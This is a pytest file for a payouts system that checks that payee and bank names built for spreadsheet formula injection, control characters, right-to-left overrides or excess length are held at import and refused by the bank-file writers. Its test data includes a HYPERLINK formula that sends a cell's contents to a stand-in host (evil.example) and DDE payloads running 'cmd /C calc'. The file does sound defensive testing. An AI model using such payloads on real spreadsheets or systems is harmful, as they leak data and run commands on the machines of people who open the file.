"""Attack: a payee name built to run in a spreadsheet (`=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)`), or
hiding control characters, or too long for the bank format, carried into the bank files.

A bank file must carry the name exactly, so it is neither neutralised nor cut: such offers are held at
import with the reason, cannot be released, and the bank file writers refuse them naming the line (they
never shorten a name silently).
"""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import select

from payouts import bankfiles, imports, offers, payees
from payouts.errors import BankExportError
from payouts.models import Offer, OfferState, Payee
from rules.errors import StateError
from tests.payouts.conftest import payee, policy, uscc, write_run

FORMULA = '=HYPERLINK("http://evil.example/?d="&D2,"详情")'
NAMES = {
    1: "示例企业1有限公司",  # a plain name: drafted as usual
    2: FORMULA,
    3: "+cmd|' /C calc'!A0",
    4: "@SUM(1+1)*cmd|' /C calc'!A0",
    5: "-2+3",
    6: "\t示例企业6有限公司",
    7: "示例企业\x07有限公司",
    8: "示例企业\u202e司公限有",  # a right-to-left override: reads as another name
    9: "长" * 141,  # over pain.001's 140 characters
}


def _run(path: Path) -> Path:
    rows = []
    for n, name in NAMES.items():
        row = payee(n)
        row["name"] = row["account_name"] = name
        rows.append(row)
    return write_run(
        path,
        [policy("wengang", budget=None, items=("sme",))],
        [("wengang", "sme", n, "1000.00") for n in NAMES],
        rows,
    )


def test_offers_whose_names_cannot_go_into_a_bank_file_are_held_at_import_with_the_reason(
    tx, t0, tmp_path: Path
) -> None:
    with tx() as s:
        result = imports.import_run(s, _run(tmp_path / "run"), "rev", t0)
    assert result.offers == 9 and result.held == 8
    with tx() as s:
        rows = s.execute(
            select(Offer.uscc, Offer.state, Offer.hold_reason, Payee.account_name).join(
                Payee, Payee.id == Offer.payee_id
            )
        ).all()
    by_n = {int(r.uscc[8:17]): r for r in rows}
    assert by_n[1].state == OfferState.DRAFTED.value and by_n[1].hold_reason is None
    for n in range(2, 10):
        assert by_n[n].state == OfferState.HELD.value, n
        assert by_n[n].hold_reason.startswith(offers.UNSAFE_NAME), by_n[n].hold_reason
        assert by_n[n].account_name == NAMES[n]  # never silently changed
    assert "以“=”开头" in by_n[2].hold_reason and "公式" in by_n[2].hold_reason
    assert "以“制表符”开头" in by_n[6].hold_reason
    assert "U+0007" in by_n[7].hold_reason and "U+202E" in by_n[8].hold_reason
    assert "超过银行文件（pain.001）的上限 140 个字符" in by_n[9].hold_reason


def test_a_held_offer_with_an_unsafe_name_cannot_be_released(tx, t0, tmp_path: Path) -> None:
    with tx() as s:
        imports.import_run(s, _run(tmp_path / "run"), "rev", t0)
    with tx() as s:
        held = s.scalars(select(Offer.public_id).where(Offer.state == OfferState.HELD.value)).all()
    with tx() as s, pytest.raises(StateError, match=offers.UNSAFE_NAME):
        offers.release(s, "rev", t0, public_ids=[held[0]])


def _batch(name: str, *, bank: str = "中国建设银行某市分行") -> bankfiles.BatchFile:
    lines = [
        bankfiles.FileLine(
            1, "ZD-1-0001", "示例企业1有限公司", "43001500000000000001", bank, Decimal("1.00")
        ),
        bankfiles.FileLine(2, "ZD-1-0002", name, "43001500000000000002", bank, Decimal("2.00")),
    ]
    return bankfiles.BatchFile(
        "ZD-1",
        dt.datetime(2025, 6, 2, 9, tzinfo=dt.UTC),
        dt.date(2025, 6, 3),
        "某市财政局",
        "43001500000000009999",
        "国家金库某市支库",
        "惠企政策资金",
        lines,
    )


@pytest.mark.parametrize("write", [bankfiles.write_pain001, bankfiles.write_csv])
def test_a_bank_file_never_shortens_a_name_it_refuses_naming_the_line(write) -> None:  # type: ignore[no-untyped-def]
    batch = _batch("长" * 141)
    with pytest.raises(BankExportError, match=r"第 2 行（业务参考号 ZD-1-0002）的收款户名.*140"):
        write(batch.header(), batch.lines, io.BytesIO())


@pytest.mark.parametrize("name", [FORMULA, "@SUM(1+1)", "示例\r企业"])
@pytest.mark.parametrize("write", [bankfiles.write_pain001, bankfiles.write_csv])
def test_a_bank_file_refuses_formula_and_control_character_names(write, name: str) -> None:  # type: ignore[no-untyped-def]
    batch = _batch(name)
    with pytest.raises(BankExportError, match="第 2 行"):
        write(batch.header(), batch.lines, io.BytesIO())


def test_a_bank_file_keeps_a_name_of_exactly_the_limit() -> None:
    name = "长" * bankfiles.NAME_MAX
    xml = bankfiles.render_pain001(_batch(name)).decode()
    assert f"<Nm>{name}</Nm>" in xml


def test_a_staff_correction_cannot_bring_an_unsafe_name_into_a_bank_file(tx, t0, tmp_path: Path) -> None:
    with tx() as s:
        imports.import_run(s, _run(tmp_path / "run"), "rev", t0)
    for bank in ("=cmd|' /C calc'!A0", "中国建设银行\t某市分行", "长" * 141):
        with tx() as s, pytest.raises(StateError, match="不能原样写入银行文件"):
            payees.propose_account_change(
                s,
                uscc(1),
                bank_name=bank,
                account_no="6222000011112222",
                account_name=NAMES[1],
                by="rev",
                reason="企业来函更正账户",
                now=t0,
            )
